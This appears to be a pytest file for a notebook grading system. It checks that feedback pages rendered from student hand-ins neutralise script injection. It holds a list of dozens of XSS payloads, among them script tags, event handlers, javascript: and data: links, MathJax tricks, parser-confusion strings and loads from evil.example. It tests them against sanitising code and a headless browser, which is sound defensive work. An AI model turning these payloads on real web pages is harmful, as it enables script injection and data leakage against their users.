"""Pages made of what students hand in run nothing and ask nobody: not in their browser, not in the instructor's."""

import base64
import html
import json
import re
import sys
from functools import cache
from pathlib import Path

import nbformat
import pytest
from hand_in import ASSIGNMENT, ROOT

from grading import feedback, gradebook, handins, results
from grading.course import Course
from grading.harmless import ALT, clean, harmless_markdown, harmless_name, harmless_notebook, is_harmless, render
from grading.sources import Assignment
from grading.standing import standing
from grading.unproven import nothing_proven

nbgrader_api = pytest.importorskip("nbgrader.api")
sys.path.append(str(ROOT / "tests" / "browser"))

pytestmark = pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning")
ALEMBIC_VERSION = cache(nbgrader_api.get_alembic_version)
SOURCE = Assignment(ASSIGNMENT)
WRITTEN = next(cell.id for cell in SOURCE.graded if cell.manual)
TEST = next(cell.id for cell in SOURCE.graded if not cell.manual)

ATTACKS = [
    "<script>window.pwned = 1</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<img src=x onerror="window.pwned = 1">',
    "<img src=x onerror=window.pwned=1 //",
    "<img\nsrc=x\nonerror=window.pwned=1>",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">',
    "<iframe src='javascript:parent.window.pwned=1'></iframe>",
    "<iframe srcdoc='<script>parent.window.pwned=1</script>'></iframe>",
    "<object data='https://evil.example/'></object><embed src='https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'; body { background: url(https://evil.example/x) }</style>",
    "<div style='background: url(https://evil.example/x)'>x</div>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><input autofocus onfocus=window.pwned=1></form>",
    "<details open ontoggle=window.pwned=1>x</details>",
    "<video src=https://evil.example/x autoplay onerror=window.pwned=1></video>",
    "<body onload=window.pwned=1>",
    "<a href='javascript:window.pwned=1' id=bait>x</a>",
    "[click](javascript:window.pwned=1)",
    "[click](JaVaScRiPt:window.pwned=1)",
    "[click](&#106;avascript:window.pwned=1)",
    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",
    "![x](https://evil.example/pixel.png)",
    '![x](x"onerror="window.pwned=1)',
    "[x]: javascript:window.pwned=1\n\n[x]",
    "$\\href{javascript:window.pwned=1}{x}$",
    "$\\require{html}\\style{background:url(https://evil.example)}{x}$",
    "$$\\unicode[window.pwned=1]{x}$$",
    "`<script>window.pwned=1</script>` and ``</code><script>window.pwned=1</script>``",
    "```html\n</code></pre><script>window.pwned=1</script>\n```",
    '```x"onmouseover=window.pwned=1\ncode\n```',
    "# mse-value <script>window.pwned=1</script>",
    f"# {TEST}\n\nA heading with the id of a field for points.",
    "<span class='full-credit'>x</span>",
    "<!--><script>window.pwned=1</script>-->",
    "<![CDATA[<script>window.pwned=1</script>]]>",
    "<x onclick=window.pwned=1 tabindex=1 autofocus onfocus=window.pwned=1>",
    "{{ 7 * 7 }}{% raw %}<script>window.pwned=1</script>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>"></noscript>',
    "<textarea></textarea><script>window.pwned=1</script>",
    "</main></body></html><script>window.pwned=1</script>",
    "</style></title><script>window.pwned=1</script>",
    "\u2028<script>window.pwned=1</script>\x00",
]
HONEST = [
    "The **mean**, because $\\sum_i r_i = 0$; see [Huber](https://doi.org/10.1214/aoms/1177703732).",
    "1. MSE\n2. MAE\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n> quoted",
    "if $a < b$ and `x < y & z`:\n\n```python\nif a < b:\n    pass\n```",
    '## My answer\n\nA & B, 3 < 4 > 2, "quoted", it\'s fine.',
    "Naïve 中文 – “text” … ≤ ½",
]
PIXEL = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\0" * 20).decode()


def attacking_notebook():
    """A grader's notebook with every attack in every place: text, code, outputs, messages, metadata, ids."""
    make = nbformat.v4
    cells = [make.new_markdown_cell(text) for text in ATTACKS]
    for text in ATTACKS:
        outputs = [
            make.new_output("stream", text=text),
            make.new_output(
                "error", ename=text, evalue=text, traceback=[text, f"\x1b[31m{text}\x1b]8;;javascript:1\x07"]
            ),
            make.new_output("display_data", data={"text/html": text, "image/svg+xml": text, "text/plain": text}),
            make.new_output("display_data", data={"application/javascript": "window.pwned=1", "text/markdown": text}),
            make.new_output(
                "display_data", data={"image/png": f'x" onerror="window.pwned=1{text}', "text/latex": text}
            ),
            make.new_output(
                "display_data", data={"image/png": PIXEL}, metadata={"image/png": {"width": '1" onload="x'}}
            ),
        ]
        cells.append(make.new_code_cell(text, outputs=outputs))
        cells[-1].metadata.update(tags=[text], magics_language=text)  # against the format
        cells.append(make.new_raw_cell(text, metadata={"format": "text/html", "raw_mimetype": "text/html"}))
    cells.append(make.new_code_cell("%%html\n<script>window.pwned=1</script>"))
    cells.append(make.new_code_cell("%%javascript\nwindow.pwned=1"))
    for cell in SOURCE.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cells.append(nbformat.from_dict({**cell, "metadata": {"nbgrader": dict(cell.metadata.nbgrader)}}))
            cells[-1].source = ATTACKS[0] if cell.metadata.nbgrader.grade_id == WRITTEN else "# a test"
    metadata = {"title": ATTACKS[0], "language_info": {"name": ATTACKS[0], "pygments_lexer": ATTACKS[0]}}
    metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}}}
    return json.dumps({"cells": cells, "metadata": metadata, "nbformat": 4, "nbformat_minor": 5})


@pytest.fixture
def course(tmp_path, monkeypatch):
    """A course with one graded hand-in that attacks everywhere."""
    monkeypatch.setattr(nbgrader_api, "get_alembic_version", ALEMBIC_VERSION)
    course = Course(tmp_path / "course")
    student = course.students.add(ATTACKS[0], name=f"Eve {ATTACKS[2]}")
    handed_in = b'{"cells": [1]}'
    time = handins.datetime.now(handins.UTC)
    handins.store(
        course, handins.HandIn(student.slug, ASSIGNMENT, time, ATTACKS[0], handins.digest(handed_in)), handed_in
    )
    handins.submit(course, student.slug, ASSIGNMENT)
    result = nothing_proven(SOURCE.text, ATTACKS[0]) | {"state": "graded", "notebook": attacking_notebook()}
    for cell in result["cells"].values():
        cell |= {"score": 0.0, "outcome": "failed", "message": "\n".join(ATTACKS)}
    (job,) = results.jobs(course, [ASSIGNMENT])
    results.save(course, job, result)
    gradebook.merge(course, [ASSIGNMENT])
    with course.open_gradebook() as book:
        comment = book.find_comment(WRITTEN, ASSIGNMENT, ASSIGNMENT, student.slug)
        comment.manual_comment = "\n\n".join(ATTACKS)
        book.db.commit()
    return course, student.slug


@pytest.mark.parametrize("loose", [False, True], ids=["harmless", "loose"])
def test_feedback_page_of_attacks_holds_only_its_own_markup(course, loose):
    """Also if what stands in autograded/ isn't what the merge put there."""
    course, slug = course
    if loose:
        course.notebook("autograded", slug, ASSIGNMENT).write_text(attacking_notebook(), "utf-8")
    text = feedback.page(course, standing(course, ASSIGNMENT, slug))
    assert not re.search(r"<(script|iframe|object|embed|link|base|form|svg|video|input)\b", text, re.IGNORECASE)
    tags = re.findall(r"<[a-z][^>]*>", text)
    assert not [tag for tag in tags if re.search(r"\son\w+\s*=|javascript:|style=", tag, re.IGNORECASE)]
    assert {tag for tag in tags if "src=" in tag} <= {
        f'<img alt="A figure that this cell drew" src="data:image/png;base64,{PIXEL}">'
    }
    assert "default-src 'none'" in text


@pytest.fixture(scope="module")
def browser():
    """Chromium."""
    import os

    import chromium

    sync_api = pytest.importorskip("playwright.sync_api")
    path = chromium.find()
    if not path and os.environ.get("CI") == "true":
        pytest.fail(chromium.MISSING)
    if not path:
        pytest.skip(chromium.MISSING)
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=path, args=["--no-sandbox", "--disable-gpu"])
        yield browser
        browser.close()


def visit(browser, path, click=True):
    """Open a page, touch and click everything in it; return what ran and what was asked for.

    Without `click`, what the page's policy stops before it is sent isn't counted.
    """
    page = browser.new_context().new_page()
    asked = []
    stopped = set()
    page.on("request", lambda request: asked.append(request.url))
    page.on("requestfailed", lambda request: stopped.add(request.url) if "csp" in request.failure.lower() else None)
    page.on("dialog", lambda dialog: (asked.append("dialog"), dialog.dismiss()))
    page.goto(path.as_uri(), wait_until="load")
    own = asked.pop(0)
    page.evaluate(
        """click => { for (const e of document.querySelectorAll('main *, #notebook *')) {
            for (const t of ['mouseover', 'focus', 'toggle']) e.dispatchEvent(new Event(t, {bubbles: true}));
            if (click && !(e.closest('a') && /^https?:/.test(e.closest('a').href))) e.click(); } }""",
        click,
    )
    page.wait_for_timeout(300)
    ran = page.evaluate("window.pwned")
    page.context.close()
    sent = [url for url in asked if click or url not in stopped]
    return ran, [url for url in sent if url.split("#")[0] != own and not url.startswith("data:image/png")]


def test_feedback_page_of_attacks_does_nothing_in_a_browser(course, browser):
    course, slug = course
    assert visit(browser, feedback.write(course, standing(course, ASSIGNMENT, slug))) == (None, [])


def test_policy_alone_stops_what_cleaning_would_miss(course, browser, tmp_path, monkeypatch):
    """The second line holds by itself: the same page with nothing cleaned."""
    course, slug = course
    # What no policy in a page stops is taken out: a refresh, and clicks.
    monkeypatch.setattr(feedback, "clean", lambda text: re.sub("(?i)<meta[^>]*>|</?main>", "", text))
    monkeypatch.setattr(feedback, "_highlighted", lambda text: text)
    path = course.notebook("autograded", slug, ASSIGNMENT)
    loose = nbformat.reads(attacking_notebook(), as_version=4)
    loose.cells = [cell for cell in loose.cells if not re.search("http-equiv|</?main", cell.source)]
    nbformat.write(loose, path)
    target = feedback.write(course, standing(course, ASSIGNMENT, slug))
    assert "<script>window.pwned" in target.read_text("utf-8")
    assert visit(browser, target, click=False) == (None, [])


def test_formgraders_rendering_of_autograded_does_nothing_in_a_browser(course, browser, tmp_path):
    """What stands in autograded/ is harmless by itself, for formgrader cleans nothing and has no policy."""
    from nbconvert.exporters import HTMLExporter
    from traitlets.config import Config

    course, slug = course
    templates = Path(nbgrader_api.__file__).parent / "server_extensions" / "formgrader" / "templates"
    config = Config({"HTMLExporter": {"template_name": "formgrade", "extra_template_basedirs": [str(templates)]}})
    with course.open_gradebook() as book:
        student = book.find_student(slug)
        names = {"first_name": student.first_name, "last_name": student.last_name, "student": student.id}
    resources = {**names, "assignment_id": ASSIGNMENT, "notebook_id": ASSIGNMENT, "submission_id": "1", "index": 0}
    resources |= {"total": 1, "base_url": "/b", "notebook_path": "/n"}
    path = course.notebook("autograded", slug, ASSIGNMENT)
    text, _ = HTMLExporter(config=config).from_filename(str(path), resources=resources)
    assert ALT in text
    assert re.findall("<img(?![^>]* alt=)[^>]*>", text) == []
    target = tmp_path / "formgrade.html"
    target.write_text(text, "utf-8")
    ran, asked = visit(browser, target)
    assert ran is None
    # Formgrader's own scripts come from its server, which isn't here, and from one that holds libraries.
    own = re.compile(
        r"file:///b/formgrader/static/|https://cdnjs\.cloudflare\.com/ajax/libs/(mathjax|require|jquery|mermaid)"
    )
    assert [url for url in asked if not own.match(url)] == []


@pytest.mark.parametrize("text", ATTACKS)
def test_attack_as_markdown_is_shown_as_text(text):
    safe = harmless_markdown(text, frozenset({TEST}))
    assert safe.startswith("```") or is_harmless(text, frozenset({TEST}))
    assert safe.startswith("```") or not re.search(rf"\\\\(href|style|unicode)|^# {TEST}", text)
    page = render(safe)
    assert not re.search(
        r"<(script|img|svg|iframe|style|object|form|input|x|body|base|meta|link)\b", page, re.IGNORECASE
    )
    assert "javascript:" not in "".join(re.findall("<[^>]*>", page)).lower()
    assert not re.search(r"<[a-z]+[^>]*\son\w+=", clean(render(text)), re.IGNORECASE)


@pytest.mark.parametrize("text", HONEST)
def test_honest_markdown_is_left_alone(text):
    assert harmless_markdown(text) == text


def test_locked_cells_of_the_source_are_left_alone():
    """The instructor may use what students may not; only the very same text passes for the instructor's."""
    own = nbformat.v4.new_markdown_cell("<img src='figure.png'>")
    made = harmless_notebook(nbformat.writes(nbformat.v4.new_notebook(cells=[own])), [own])
    assert made.cells[0].source == own.source
    forged = nbformat.v4.new_markdown_cell("<img src='figure.png' >")
    made = harmless_notebook(nbformat.writes(nbformat.v4.new_notebook(cells=[forged])), [own])
    assert made.cells[0].source != forged.source


def test_what_people_see_is_a_valid_notebook():
    nbformat.validate(harmless_notebook(attacking_notebook(), SOURCE.cells))


def test_name_cannot_be_html():
    assert harmless_name("O'Neil <b>&amp;</b>") == "O’Neil ‹b›＆amp;‹/b›"


def test_feedback_says_what_counts_and_hides_what_is_hidden(course, tmp_path):
    course, slug = course
    result = results.load(course, ASSIGNMENT, slug)
    cells = [cell for cell in nbformat.reads(SOURCE.text, as_version=4).cells]
    path = course.notebook("autograded", slug, ASSIGNMENT)
    nbformat.write(nbformat.v4.new_notebook(cells=cells), path)
    assert "BEGIN HIDDEN" in path.read_text("utf-8")
    with pytest.raises(ValueError, match="shows the hidden tests"):
        feedback.page(course, standing(course, ASSIGNMENT, slug))
    for cell in cells:
        cell.source = cell.source.split("### BEGIN HIDDEN")[0]
    nbformat.write(nbformat.v4.new_notebook(cells=cells), path)
    result["cells"][TEST] |= {"message": "The value is 1, expected <2>."}
    results.write_json(results.path(course, ASSIGNMENT, slug), result)
    text = feedback.page(course, standing(course, ASSIGNMENT, slug))
    assert "The value is 1, expected &lt;2&gt;." in text
    assert f"of {SOURCE.points:.0f} points" in text
    assert "<math" in text  # formulas of the instructor are typeset
    assert "$L$" not in html.unescape(re.sub("<[^>]*>", "", text))
